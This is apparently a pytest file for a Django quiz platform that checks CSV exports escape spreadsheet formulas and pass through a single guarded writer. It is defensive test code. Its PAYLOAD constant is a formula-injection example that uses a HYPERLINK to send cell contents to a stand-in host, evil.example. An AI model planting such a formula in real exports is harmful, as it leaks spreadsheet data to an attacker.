"""CSV downloads never carry a live spreadsheet formula (security finding 7), and every export uses the one
guarded writer in learning.core.csv."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from assessments.models import Quiz
from assessments.quizzes import scoring
from assessments.quizzes.formats import bank
from assessments.quizzes.services.attempts import attempt_start, attempt_submit
from assessments.quizzes.services.imports import questions_write
from learning.core.csv import csv_bytes
from learning.organisations.factories import UserFactory

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, "-5"),
        (Decimal("-0.25"), "-0.25"),
        (None, ""),
    ],
)
def test_each_cell_that_a_spreadsheet_would_run_is_made_text(value, written):
    rows = list(csv.reader(io.StringIO(csv_bytes([[value, "end"]]).decode("utf-8-sig"), newline="")))
    assert rows == [[written, "end"]]


def test_output_is_utf8_with_a_byte_order_mark_for_excel():
    assert csv_bytes([["Siân"]]) == "\ufeffSiân\r\n".encode()


@pytest.mark.django_db
def test_item_analysis_csv_writes_a_formula_question_name_as_text(client):
    quiz = Quiz.objects.create(title="Test quiz", pass_mark=60, questions_per_attempt=2)
    options = [bank.Option("Right", 100), bank.Option("Wrong", 0)]
    questions_write(
        quiz=quiz,
        questions=[
            bank.Question(name=PAYLOAD, qtype="single", text="Q?", options=options),
            bank.Question(name="Plain", qtype="single", text="Q2?", options=options),
        ],
    )
    attempt = attempt_start(user=UserFactory(), quiz=quiz)
    answers = {item.position: scoring.correct_keys(item.snapshot) for item in attempt.items.all()}
    attempt_submit(attempt=attempt, answers=answers)
    editor = UserFactory(is_staff=True)
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    response = client.get(reverse("assessments_quiz_tools:analysis", args=[quiz.pk]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:3]] == ["'" + PAYLOAD, "Plain"]


def test_no_module_writes_csv_except_the_guarded_writer():
    """A new export calling csv.writer itself would skip the guard: this keeps every export on csv_bytes."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("learning", "assessments", "certificates", "modules")
        for path in (ROOT / package).rglob("*.py")
        if writers.search(path.read_text()) and path != ROOT / "learning" / "core" / "csv.py"
    ]
    assert offenders == []
